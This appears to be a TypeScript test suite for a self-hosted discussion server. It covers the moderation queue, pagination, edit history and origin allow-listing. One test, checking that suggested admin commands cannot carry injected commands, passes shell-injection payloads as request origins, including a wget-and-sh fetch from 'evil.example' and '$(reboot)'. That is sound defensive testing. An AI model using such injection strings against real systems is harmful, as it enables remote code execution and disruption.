import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import {
  type ErrorBody,
  ENDPOINTS,
  PAGE_WAITING,
  type EntryPlace,
  type HistoryView,
  type OriginsView,
  type WaitingView,
} from '@partyline/protocol';
import { event, guest, ORIGIN, PARTY, post, startParty, TOPIC, type Fixture, type Person } from './party.ts';

const bearer = (token: string) => ({ authorization: `Bearer ${token}` });

function waitingOf({ get }: Fixture, person: Person) {
  return async (query = ''): Promise<WaitingView> =>
    (await get(`${ENDPOINTS.waiting(PARTY)}${query}`, { headers: bearer(person.token) })).json();
}

describe('what waits', () => {
  it('stands in the order of its weight, with where it is, for hosts alone', async (t) => {
    const fixture = await startParty(t);
    const { send, host, get } = fixture;
    const [ann, bo, cy] = [await host(), guest(), guest()];
    const praise = post('Lovely', { intent: 'praise' });
    const idea = post('More lanes');
    const question = post('Where?', { intent: 'question' });
    const problem = post(
      'The lane is broken',
      { intent: 'problem', open: { title: 'Two' } },
      { topic: 'lane-2' },
    );
    const reply = post('Spam', { parent: question.id });
    await send(bo, [praise, idea, question, problem, reply]);
    await send(cy, [
      event('reaction.set', { entry: problem.id, kind: 'same', on: true }, { topic: 'lane-2' }),
      event('entry.reported', { entry: reply.id, reason: 'spam' }),
    ]);
    const read = waitingOf(fixture, ann);
    const view = await read();
    assert.equal(view.waiting, 5);
    assert.deepEqual(
      view.items.map(({ entry, topic, root }) => [entry.text, topic.title, root?.text]),
      [
        ['Spam', 'Lane 1', 'Where?'],
        ['The lane is broken', 'Two', undefined],
        ['Where?', 'Lane 1', undefined],
        ['More lanes', 'Lane 1', undefined],
        ['Lovely', 'Lane 1', undefined],
      ],
    );
    assert.deepEqual(
      view.items[0]?.entry.reported?.map(({ reason }) => reason),
      ['spam'],
    );
    assert.equal(view.next, null);
    await send(ann, [
      event('entry.settled', { entry: idea.id }),
      event('entry.dismissed', { entry: reply.id }),
    ]);
    const later = await read();
    assert.deepEqual([later.waiting, later.items.length], [3, 3]);
    await get(ENDPOINTS.waiting(PARTY), {}, 401);
    await get(ENDPOINTS.waiting(PARTY), { headers: bearer(bo.token) }, 403);
    await get(`${ENDPOINTS.waiting(PARTY)}?after=1.2`, { headers: bearer(ann.token) }, 400);
  });

  it('is cut into pages that miss nothing', async (t) => {
    const fixture = await startParty(t);
    const [ann, bo] = [await fixture.host(), guest()];
    const posts = Array.from({ length: PAGE_WAITING + 7 }, (_, index) =>
      post(`${index}`, { intent: index % 2 ? 'question' : 'praise' }),
    );
    await fixture.send(bo, posts);
    const read = waitingOf(fixture, ann);
    const first = await read();
    assert.equal(first.items.length, PAGE_WAITING);
    const second = await read(`?after=${first.next}`);
    const texts = [...first.items, ...second.items].map(({ entry }) => Number(entry.text));
    const questions = posts.flatMap((_, index) => (index % 2 ? [index] : []));
    const praises = posts.flatMap((_, index) => (index % 2 ? [] : [index]));
    assert.deepEqual(texts, [...questions, ...praises]);
    assert.equal(second.next, null);
  });
});

describe('an entry by its id alone', () => {
  it('is found where everybody may read it, and nowhere else', async (t) => {
    const { send, get, host } = await startParty(t);
    const [ann, bo] = [await host(), guest()];
    const root = post('Hello', { open: { title: 'Lane 1', url: `${ORIGIN}/lanes/1?x#y` } });
    const reply = post('Hi', { parent: root.id });
    const secret = post('Secret', { audience: 'team' });
    const gone = post('Gone');
    await send(bo, [root, reply, secret, gone, event('post.removed', { entry: gone.id })]);
    const find = async (id: string) => (await get(ENDPOINTS.entry(PARTY, id))).json<EntryPlace>();
    const place = { topic: TOPIC, title: 'Lane 1', url: `${ORIGIN}/lanes/1?x` };
    assert.deepEqual(await find(root.id), place);
    assert.deepEqual(await find(reply.id), { ...place, root: root.id });
    for (const id of [secret.id, gone.id, 'nobody']) await get(ENDPOINTS.entry(PARTY, id), {}, 404);
    await get(ENDPOINTS.entry(PARTY, secret.id), { headers: bearer(ann.token) }, 404);
  });
});

describe('a view around an entry', () => {
  it('has its conversation first and the way down to it', async (t) => {
    const { send, view, get, desk, host } = await startParty(t);
    const [ann, bo] = [await host(), guest()];
    const old = post('old');
    const chain = [old];
    for (const text of ['a', 'b', 'c']) chain.push(post(text, { parent: chain.at(-1)!.id }));
    const hidden = post('hidden', { audience: 'team', parent: chain.at(-1)!.id });
    await send(bo, [...chain, hidden]);
    await send(bo, Array.from({ length: 60 }, (_, index) => post(`new ${index}`)).slice(0, 50));
    const target = chain.at(-1)!;
    const found = await view(`?around=${target.id}`);
    assert.deepEqual(
      found.around?.map(({ text }) => text),
      ['old', 'a', 'b', 'c'],
    );
    assert.deepEqual(
      found.entries.slice(0, 2).map(({ text }) => text),
      ['old', 'a'],
    );
    assert.deepEqual((await view()).entries[0]?.text, 'new 49');
    for (const id of [hidden.id, 'nobody']) {
      const other = await view(`?around=${id}`);
      assert.equal(other.around, undefined);
      assert.equal(other.entries[0]?.text, 'new 49');
    }
    assert.equal((await view(`?around=${target.id}`, 'elsewhere')).around, undefined);
    assert.equal((await desk(ann, `?around=${hidden.id}`)).around?.at(-1)?.text, 'hidden');
    await send(bo, [event('post.edited', { entry: target.id, text: 'changed' })]);
    assert.equal((await view(`?around=${target.id}`)).around?.at(-1)?.text, 'changed');
    const page = ENDPOINTS.topic(PARTY, TOPIC);
    await get(`${page}?around=${target.id}&root=${old.id}`, {}, 400);
    await get(`${page}?around=${target.id}&after=${found.next}`, {}, 400);
  });

  it('has reasons apart from replies, and what is pinned in front', async (t) => {
    const { send, view, get, host } = await startParty(t);
    const [ann, bo] = [await host(), guest()];
    const root = post('root');
    await send(bo, [root, post('later')]);
    await send(guest(), [
      ...Array.from({ length: 5 }, (_, index) => post(`why ${index}`, { parent: root.id, why: true })),
      post('reply', { parent: root.id }),
    ]);
    await send(ann, [event('entry.pinned', { entry: root.id })]);
    const first = await view();
    assert.deepEqual(first.head.pinned, [root.id]);
    assert.deepEqual(
      first.entries.map(({ text }) => text),
      ['root', 'why 0', 'why 1', 'why 2', 'reply', 'later'],
    );
    assert.deepEqual([first.entries[0]?.whys, first.entries[0]?.replies], [5, 1]);
    const whys = await view(`?root=${root.id}&list=whys`);
    assert.deepEqual(
      whys.entries.map(({ text }) => text),
      ['why 0', 'why 1', 'why 2', 'why 3', 'why 4'],
    );
    const replies = await view(`?root=${root.id}`);
    assert.deepEqual(
      replies.entries.map(({ text }) => text),
      ['reply'],
    );
    await get(`${ENDPOINTS.topic(PARTY, TOPIC)}?list=whys`, {}, 400);
  });
});

describe('what an entry said before', () => {
  it('is kept for hosts', async (t) => {
    const { send, get, host } = await startParty(t);
    const [ann, bo] = [await host(), guest()];
    const one = post('first');
    await send(bo, [one, event('post.edited', { entry: one.id, text: 'second' })]);
    await send(bo, [event('post.edited', { entry: one.id, text: 'third' })]);
    const url = ENDPOINTS.history(PARTY, one.id);
    const { versions } = (await get(url, { headers: bearer(ann.token) })).json<HistoryView>();
    assert.deepEqual(
      versions.map(({ text }) => text),
      ['first', 'second'],
    );
    await get(url, { headers: bearer(bo.token) }, 403);
    await get(ENDPOINTS.history(PARTY, 'nobody'), { headers: bearer(ann.token) }, 404);
    await send(bo, [event('post.removed', { entry: one.id })]);
    await get(url, { headers: bearer(ann.token) }, 410);
  });
});

describe('pages that ask', () => {
  it('are named to the owner until they are allowed, the latest first, and never many', async (t) => {
    let now = 1_000_000;
    const { app, send, get, host } = await startParty(t, { now: () => now });
    const ann = await host('owner');
    const ask = (origin: string) => app.inject({ url: ENDPOINTS.topic(PARTY, TOPIC), headers: { origin } });
    const read = async () =>
      (await get(ENDPOINTS.origins(PARTY), { headers: bearer(ann.token) })).json<OriginsView>();
    const { hostLink, ...none } = await read();
    assert.deepEqual(none, { v: 1, allowed: [ORIGIN], asking: [] });
    assert.equal(hostLink, `partyline host link ${PARTY} ${ann.id} --page ${ORIGIN}/`);
    const refused = await ask('http://localhost:5173');
    assert.equal(
      refused.json<ErrorBody>().details,
      `Allow it: partyline origin add ${PARTY} http://localhost:5173`,
    );
    now += 5;
    await app.inject({
      method: 'OPTIONS',
      url: ENDPOINTS.events(PARTY),
      headers: { origin: 'https://b.example' },
    });
    await ask(ORIGIN);
    assert.match((await ask('null')).json<ErrorBody>().details ?? '', /opened as a file/);
    assert.deepEqual((await read()).asking, [
      { origin: 'https://b.example', at: now },
      { origin: 'http://localhost:5173', at: now - 5 },
    ]);
    await send(ann, [event('origin.added', { origin: 'https://b.example' })]);
    assert.deepEqual((await read()).allowed, [ORIGIN, 'https://b.example']);
    assert.deepEqual((await read()).asking, [{ origin: 'http://localhost:5173', at: now - 5 }]);
    for (let index = 0; index < 50; index += 1) await ask(`https://${index}.example`);
    assert.equal((await read()).asking.length, 20);
    now += 86_400_000;
    assert.deepEqual((await read()).asking, []);
    await get(ENDPOINTS.origins(PARTY), { headers: bearer((await host('moderator', 'Mo')).token) }, 403);
  });

  it('are told where the data lie by nobody but a server on their own machine', async (t) => {
    const commandLine = (words: string) => `partyline ${words} --data /srv/party.sqlite`;
    const { app } = await startParty(t, { commandLine });
    const refusal = async (host: string, remoteAddress: string, party = PARTY) => {
      const headers = { host, origin: 'https://elsewhere.example' };
      const refused = await app.inject({ url: ENDPOINTS.topic(party, TOPIC), headers, remoteAddress });
      const { message, details = '' } = refused.json<ErrorBody>();
      return message + details;
    };
    for (const party of [PARTY, 'nobody']) {
      assert.match(await refusal('localhost:4322', '127.0.0.1', party), /--data \/srv\/party\.sqlite/);
      assert.match(await refusal('[::1]:4322', '::1', party), /--data/);
      for (const [host, from] of [
        ['party.example', '127.0.0.1'],
        ['localhost', '203.0.113.7'],
        ['localhost.example', '127.0.0.1'],
      ] as const) {
        const told = await refusal(host, from, party);
        assert.match(told, /partyline \w+ /);
        assert.doesNotMatch(told, /--data|srv/);
      }
    }
  });

  it('write no command of their own into the one that an owner is told to run', async (t) => {
    const { app, get, host } = await startParty(t);
    const ann = await host('owner');
    for (const origin of [
      'http://x;{wget,evil.example};{sh,index.html}',
      'http://a$(reboot).example',
      'http://a`reboot`.example',
      'https://a&b.example',
      "https://a'b.example",
    ]) {
      const refused = await app.inject({ url: ENDPOINTS.topic(PARTY, TOPIC), headers: { origin } });
      assert.equal(refused.statusCode, 403);
      assert.doesNotMatch(refused.json<ErrorBody>().details ?? '', /origin add/);
    }
    for (const origin of [
      'http://[::1]:3000',
      'https://my_shop.example:8443',
      'https://xn--bcher-kva.example',
    ]) {
      const refused = await app.inject({ url: ENDPOINTS.topic(PARTY, TOPIC), headers: { origin } });
      assert.match(refused.json<ErrorBody>().details ?? '', /origin add/);
    }
    const { asking } = (
      await get(ENDPOINTS.origins(PARTY), { headers: bearer(ann.token) })
    ).json<OriginsView>();
    assert.equal(asking.length, 3);
  });
});

describe('a guest who left an address', () => {
  it('is told so, and nobody else is', async (t) => {
    const mail = { url: 'smtp://127.0.0.1:9', from: 'party@mail.example' };
    const { send, mine, view } = await startParty(t, { mail, publicUrl: 'https://party.example' });
    const bo = guest();
    const { me } = await send(bo, [post('x'), event('contact.given', { email: 'bo@mail.example' })]);
    assert.equal(me?.contact, 'asked');
    assert.equal((await mine(bo)).me.contact, 'asked');
    assert.ok(!JSON.stringify(await view()).includes('mail.example'));
    const removed = await send(bo, [event('contact.removed', {})]);
    assert.equal(removed.me?.contact, undefined);
  });
});
